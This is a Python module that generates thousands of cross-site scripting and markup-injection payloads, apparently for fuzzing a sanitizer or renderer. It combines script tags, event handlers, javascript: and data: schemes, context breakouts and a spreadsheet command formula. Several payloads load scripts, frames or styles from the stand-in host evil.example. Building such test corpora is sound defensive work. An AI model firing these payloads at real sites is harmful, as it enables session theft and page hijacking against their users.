"""Texts that want to run something: what would run, written in many ways, put where it might get out of its place."""

from __future__ import annotations

import itertools
import random

HOOK = "hurt(1)"  # what a payload calls if it runs
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
    "javascript&colon;", "&#106;avascript:", "&#x6A;avascript&#58;", "vbscript:", "data:text/html,<script>",
    "data:text/html;base64,", "data:image/svg+xml,<svg onload=", "feed:javascript:", "view-source:javascript:",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onfocus autofocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart",
    "onbegin", "ONERROR", "onscrollend",
)  # fmt: skip
TAGS = ("img src=x", "svg", "body", "details open", "input", "video src=x", "audio src=x", "marquee", "math", "x-y")
SEPARATORS = (" ", "/", "\n", "\t", "\f", " a=b ")
WHOLE = (
    f"<script>{HOOK}</script>", f"<SCRIPT >{HOOK}</SCRIPT\n>", f"<scr<script>ipt>{HOOK}</scr</script>ipt>",
    "<script/src=//evil.example/a.js></script>", f"<svg><script>{HOOK}</script></svg>",
    f"<svg><a xlink:href='javascript:{HOOK}'><text>x</text></a></svg>", f"<iframe srcdoc='<script>{HOOK}</script>'>",
    "<iframe src=//evil.example></iframe>", "<object data=//evil.example></object>", "<embed src=//evil.example>",
    "<base href=//evil.example/>", f"<meta http-equiv=refresh content='0;url=javascript:{HOOK}'>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>", f"<form action='javascript:{HOOK}'><button>x</button></form>",
    f"<button formaction='javascript:{HOOK}'>x</button>",
    f"<noscript><p title='</noscript><img src=x onerror={HOOK}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={HOOK}>", f"<template><script>{HOOK}</script>",
    f"<select><iframe></select><img src=x onerror={HOOK}>", f"<isindex type=image src=1 onerror={HOOK}>",
)  # fmt: skip
CONTEXTS = (
    "{}", '">{}', "'>{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "-->{}", "]]>{}", "\\{}", "`{}",
    "```\n{}", "> {}", "- {}", "# {}", "| a |\n|---|\n| {} |", "**{}**", "[{}](https://example.org)", "&lt;{}",
    "{{{{ {} }}}}", "{{% {} %}}", "%3Cx%3E{}", "\u202e{}", "a\x00{}", "<{}", "<!--{}", "<![CDATA[{}", "=cmd|'{}'!A0",
)  # fmt: skip
LINKS = ("[x]({}{})", "[x](<{}{}>)", "<{}{}>", "![x]({}{})", "[x]: {}{}\n\n[x]", '<a href="{}{}">x</a>', "{}{}")
BREAKS = ('" {}={} x="', "' {}={} x='", "` {}={} ", "x {}={}", '[x](https://example.org "\\" {}={}")')


def grammar():
    """Give all payloads there are, in one order."""
    events = (f"<{tag}{gap}{event}={HOOK}>" for tag, gap, event in itertools.product(TAGS, SEPARATORS, EVENTS))
    running = [*WHOLE, *events]
    yield from (context.format(each) for each, context in itertools.product(running, CONTEXTS))
    yield from (link.format(scheme, HOOK) for link, scheme in itertools.product(LINKS, SCHEMES))
    yield from (each.format(event, HOOK) for each, event in itertools.product(BREAKS, EVENTS))


def payloads(number=1000, seed=1):
    """Choose so many, the same for the same seed; the links and the ways out of an attribute are all among them."""
    every = list(dict.fromkeys(grammar()))
    last = len(LINKS) * len(SCHEMES) + len(BREAKS) * len(EVENTS)
    chosen = every[-last:] + random.Random(seed).sample(every[:-last], max(number - last, 0))
    return chosen[:number]
